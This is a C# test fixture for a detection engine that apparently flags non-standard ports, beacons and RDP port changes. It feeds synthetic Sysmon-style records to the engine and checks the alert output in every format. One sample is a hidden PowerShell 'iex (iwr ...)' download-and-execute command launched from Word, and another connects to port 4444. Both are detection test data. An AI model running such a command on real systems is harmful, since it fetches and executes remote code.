using System.Text;
using NonStdPort.Core.Rules;
using NonStdPort.Core.Write;
using static NonStdPort.Core.Tests.Detections.SysmonJson;

namespace NonStdPort.Core.Tests.Write;

/// <summary>A clock that always says the same instant, so that detection times are reproducible.</summary>
internal sealed class FixedClock(DateTimeOffset now) : TimeProvider
{
    public static readonly FixedClock Default = new(new DateTimeOffset(2026, 12, 1, 12, 0, 0, 250, TimeSpan.Zero));

    public override DateTimeOffset GetUtcNow() => now;
}

/// <summary>
/// One short stream that raises an alert of every rule (non_standard_port with and without the
/// lineage columns, beacon, rdp_port_change), with values that need escaping in every format
/// (quotes, backslashes, pipes, equals signs, tabs, line breaks, non-ASCII), run through the real
/// engine in any format with a fixed clock.
/// </summary>
internal static class FormatSamples
{
    public const string RdpPort = @"HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber";

    public const string TrickyCommandLine = "powershell.exe -c \"iex (iwr 'http://a|b=c\\d')\"\t-w hidden\nline2 \u00e9\u00e8 |x=y\\";

    public static readonly string[] Records = CreateRecords();

    private static string[] CreateRecords()
    {
        const string shell = "{8d1c5f3a-0001-673d-0001-000000001a00}";
        const string agent = "{8d1c5f3a-0002-673d-0001-000000001a00}";
        var records = new List<string>
        {
            ProcessCreate(0, shell, PowerShell, @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", TrickyCommandLine, "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Invoice=8841|x.docm\""),
            Connection(1, shell, port: 4444),
            Record(3, 2, ("ProcessGuid", "{8d1c5f3a-0003-673d-0001-000000001a00}"), ("Image", @"C:\Windows\System32\mshta.exe"), ("User", "CORP\\o'neil|x=y"),
                ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIp", "fe80::1"), ("SourcePort", "50313"), ("DestinationIp", "2606:4700:4700::1111"),
                ("DestinationPort", "50050"), ("Hostname", "WS02.corp.example")),
        };
        records.AddRange(Periodic(100, 60, 8, s => Connection(s, agent, image: @"C:\Tools\agent.exe", port: 7000)));
        records.Add(RegistrySet(700, RdpPort, "DWORD (0x00008462)"));
        return [.. records];
    }

    /// <summary>The alerts of <see cref="Records"/> in <paramref name="format"/>, each without its newline.</summary>
    public static List<string> Alerts(AlertFormat format, bool emitAll = false)
    {
        var engine = new Core.Engine(RuleSet.Default, new EngineOptions { Format = format, Clock = FixedClock.Default, EmitAll = emitAll });
        var batch = new AlertBatch();
        var alerts = new List<string>();
        for (int i = 0; i < Records.Length; i++)
        {
            batch.Clear();
            engine.Process(Encoding.UTF8.GetBytes(Records[i]), SourceRef.FromFile("samples.json", i + 1), batch);
            for (int a = 0; a < batch.Count; a++)
            {
                alerts.Add(Encoding.UTF8.GetString(batch.Json(batch[a])));
            }
        }

        return alerts;
    }

    /// <summary>The keys of the alerts of <see cref="Records"/> in <paramref name="format"/>.</summary>
    public static List<string> Keys(AlertFormat format)
    {
        var engine = new Core.Engine(RuleSet.Default, new EngineOptions { Format = format, Clock = FixedClock.Default });
        var batch = new AlertBatch();
        var keys = new List<string>();
        for (int i = 0; i < Records.Length; i++)
        {
            batch.Clear();
            engine.Process(Encoding.UTF8.GetBytes(Records[i]), SourceRef.FromFile("samples.json", i + 1), batch);
            for (int a = 0; a < batch.Count; a++)
            {
                keys.Add(Encoding.UTF8.GetString(batch.Key(batch[a])));
            }
        }

        return keys;
    }

    /// <summary>Every format, for theories.</summary>
    public static TheoryData<AlertFormat> Formats() => new(Enum.GetValues<AlertFormat>());

    /// <summary>Every format but json, for theories.</summary>
    public static TheoryData<AlertFormat> SiemFormats() => new(Enum.GetValues<AlertFormat>().Where(f => f != AlertFormat.Json));
}
